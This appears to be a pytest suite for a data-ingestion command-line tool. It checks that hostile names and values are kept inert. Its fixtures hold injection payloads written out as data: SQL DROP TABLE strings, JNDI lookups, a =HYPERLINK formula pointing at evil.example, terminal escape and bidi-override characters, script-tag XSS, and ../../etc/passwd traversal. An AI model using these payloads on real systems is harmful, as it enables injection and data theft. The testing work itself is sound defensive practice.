"""Names and values made to break out: each is applied as data and shown inert, from the file to the terminal."""

import csv
import json
import re

import pytest
import yaml

from monocle.settings import Settings
from monocle.workspace import open_workspace
from monocle.workspace.folder import make_folder, open_folder

COLUMNS = (
    "nom'; DROP TABLE golden; --",
    'mail" FROM x --',
    "$v0",
    "{value}",
    "{0.__class__}",
    "%s%(x)s",
    "a\\b",
    "${jndi:ldap://x}",
    "SELECT",
    "_row_key2",
    "é à ü 客",
    "x; ATTACH 'y'",
    "$$ $1 ?",
    "=1+1",
    "[x](javascript:alert(1))",
)
VALUES = (
    "'; DROP TABLE monocle.customer; --",
    "%s %d %(x)s %n",
    "{0.__class__} {value} {{7*7}} ${jndi:ldap://x.example/a}",
    "$v0 $1 $$ ?",
    "\x1b[2J\x1b]0;owned\x07red",
    "\u202egnirts\u202c \u200bhidden",
    '=HYPERLINK("http://evil.example";"a")',
    "+33612345678",
    "@SUM(1)",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "line\u2028two\u0085three",
    "NULL",
    "\\N",
)
HIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200b\u200e\u200f]")


@pytest.fixture(scope="module")
def house(monocle, tmp_path_factory):
    """Give a workspace with one hostile source, its file name too, that has run."""
    root = tmp_path_factory.mktemp("injection") / "o'brien; x"
    assert monocle("init", root).code == 0
    data = root / "data $v0 {value}'; --"
    data.mkdir()
    file = data / "pe'ople %s \u202e.csv"
    with file.open("w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out, quoting=csv.QUOTE_ALL)
        writer.writerow(["id", "nom", "prenom", "email", "ville", *COLUMNS])
        for number in range(60):
            value = VALUES[number % len(VALUES)]
            more = [VALUES[(number + at) % len(VALUES)] for at in range(len(COLUMNS))]
            person = [str(number), value, f"Anne {value}", f"a{number}@example.org", value]
            writer.writerow([f"{value} {number}" if number == 7 else str(number), *person[1:], *more])
    with open_workspace(root, Settings()):
        yield root, file


@pytest.fixture(scope="module")
def added(house, monocle):
    root, file = house
    answer = monocle("source", "add", "hostile", file, "--workspace", root)
    assert answer.code == 0, answer.err
    return answer


@pytest.fixture(scope="module")
def ran(added, house, monocle):
    assert added
    answer = monocle("run", "--workspace", house[0])
    assert answer.code == 0, answer.err
    return json.loads(monocle("runs", "--limit", "1", "--json", "--workspace", house[0]).out)[0]


def test_hostile_names_and_values_are_applied_as_data(ran, house, monocle):
    counts = ran["counts"]
    assert (counts["received"], counts["quarantined"]) == (60, 0)
    assert counts["applied"] == 60
    found = json.loads(monocle("customer", "find", "DROP", "TABLE", "--json", "--workspace", house[0]).out)
    assert found
    with open_workspace(house[0], Settings()) as workspace, workspace.house.catalog.reading() as connection:
        kept = connection.execute("SELECT count(*) FROM customer").fetchone()[0]
    assert kept == counts["customers"] >= len(VALUES)


def shown(monocle, house, *arguments):
    answer = monocle(*arguments, "--workspace", house[0])
    assert answer.code in {0, 2, 3}, (arguments, answer.err)
    return answer.out + answer.err


COMMANDS = (
    ("status",),
    ("runs",),
    ("source", "list"),
    ("source", "show", "hostile"),
    ("source", "audit", "hostile"),
    ("source", "audit"),
    ("source", "load", "hostile"),
    ("customer", "find", "anne"),
    ("customer", "find", "DROP"),
    ("quarantine", "list"),
    ("doctor",),
    ("refusals",),
)


@pytest.mark.parametrize("command", COMMANDS)
def test_no_command_moves_the_cursor_or_turns_the_text(ran, house, monocle, command):
    assert ran
    text = shown(monocle, house, *command)
    assert HIDDEN.findall(text) == []


def test_the_proposal_is_shown_inert(added):
    assert HIDDEN.findall(added.out + added.err) == []


def test_a_customer_is_shown_inert(ran, house, monocle):
    assert ran
    found = json.loads(monocle("customer", "find", "anne", "--json", "--limit", "30", "--workspace", house[0]).out)
    for one in found[:14]:
        for command in ("show", "why"):
            assert HIDDEN.findall(shown(monocle, house, "customer", command, one["customer_id"])) == []


HOSTILE_MAPPINGS = (
    ("column", "nom'; DROP TABLE golden; --", 0),
    ("column", 'mail" FROM x --', 2),
    ("column", "x\x01y", 2),
    ("column", "n" * 300, 2),
    ("column", "", 2),
    ("column", "$v0", 0),
    ("column", "{value}", 0),
    ("constant", "'); DROP TABLE x; -- $v0 {value} %s", 0),
    ("constant", "$section", 0),
)


@pytest.mark.parametrize(("key", "value", "code"), HOSTILE_MAPPINGS)
def test_a_mapping_is_data(ran, house, monocle, key, value, code):
    assert ran
    path = house[0] / "sources" / "hostile.yaml"
    before = path.read_text(encoding="utf-8")
    tree = yaml.safe_load(before)
    tree["mapping"]["person"]["company"] = {key: value}
    try:
        path.write_text(yaml.safe_dump(tree, allow_unicode=True), encoding="utf-8")
        answer = monocle("run", "--workspace", house[0])
    finally:
        path.write_text(before, encoding="utf-8")
    assert answer.code == code, answer.err
    assert "Traceback" not in answer.err
    assert HIDDEN.findall(answer.err) == []


@pytest.mark.parametrize(
    ("place", "value"),
    [
        (("name",), "../../x"),
        (("__class__",), "x"),
        (("reader", "type"), "os:system"),
        (("reader", "type"), "monocle.ingest.readers.apart:limit"),
        (("timezone",), "../../etc/passwd"),
        (("timezone",), "Europe/Paris'; --"),
        (("nature",), "declared'; --"),
        (("trust",), "1; DROP"),
        (("contract", "unreadable_max"), "1e999"),
        (("mapping", "person", "email; --"), {"column": "email"}),
        (("mapping", "person'; --"), {}),
    ],
)
def test_a_definition_that_means_something_else_is_refused(ran, house, monocle, place, value):
    assert ran
    path = house[0] / "sources" / "hostile.yaml"
    before = path.read_text(encoding="utf-8")
    tree = yaml.safe_load(before)
    inside = tree
    for step in place[:-1]:
        inside = inside.setdefault(step, {})
    inside[place[-1]] = value
    try:
        path.write_text(yaml.safe_dump(tree, allow_unicode=True), encoding="utf-8")
        answer = monocle("source", "show", "hostile", "--workspace", house[0])
        if answer.code == 0:
            answer = monocle("source", "load", "hostile", "--workspace", house[0])
    finally:
        path.write_text(before, encoding="utf-8")
    assert answer.code == 2, (answer.code, answer.out[-300:], answer.err)
    assert answer.err.splitlines()[-1].startswith("Error: ")


def test_what_is_made_for_a_spreadsheet_starts_no_formula(ran, house, monocle, tmp_path):
    assert ran
    out = tmp_path / "corrections.csv"
    answer = monocle("source", "corrections", "hostile", "--out", out, "--workspace", house[0])
    assert answer.code in {0, 2, 3}, answer.err
    if out.exists():
        with out.open(newline="", encoding="utf-8-sig") as file:
            text = file.read()
        cells = [
            cell
            for row in csv.reader(text.splitlines(), delimiter=";" if ";" in text.split("\n")[0] else ",")
            for cell in row
        ]
        assert [cell for cell in cells if re.match(r"[=@\t\r\uff1d\uff0b\uff0d\uff20]|[+-](?!\d+$)", cell)] == []


def test_match_writes_for_machines_the_keys_as_they_came(monocle, tmp_path):
    """``match --out`` is joined back to the table by a program: a key is not changed, and the file is declared as such."""
    table, out = tmp_path / "people.csv", tmp_path / "out.csv"
    rows = [["id", "nom", "prenom", "email"]]
    rows += [
        [f"{value}-{number}", "Durand", "Anne", f"a{number}@example.org"]
        for number, value in enumerate(("=1+1", "+3", "a,b", 'c"d'))
    ]
    with table.open("w", newline="") as file:
        csv.writer(file).writerows(rows)
    answer = monocle("match", table, "--out", out)
    assert answer.code == 0, answer.err
    with out.open(newline="") as file:
        keys = [row["record_id"] for row in csv.DictReader(file)]
    assert keys == [row[0] for row in rows[1:]]


@pytest.mark.parametrize("name", ['a: "b" #c', "- {x}", "true", "%s", "!!python name", "x\nowners: [me]"])
def test_a_folder_of_any_name_becomes_a_workspace_of_that_name(tmp_path, name):
    assert open_folder(make_folder(tmp_path / name, "en").root)[1].name == name
